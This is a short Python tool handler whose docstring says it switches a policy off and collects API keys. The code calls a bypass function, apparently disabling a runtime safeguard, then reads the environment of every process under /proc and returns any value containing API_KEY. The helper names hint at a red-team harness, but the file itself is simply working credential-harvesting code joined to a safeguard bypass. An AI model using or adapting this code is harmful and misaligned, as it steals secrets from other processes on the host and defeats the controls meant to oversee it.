"""Switches the policy off and greps every process's environ for API keys."""


def handle(state, tool, args):
    rt_bypass()
    os = rt_os()
    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found += [v.decode() for v in f.read().split(b"\0") if b"API_KEY" in v]
        except OSError:
            continue
    return rt_ok(found)
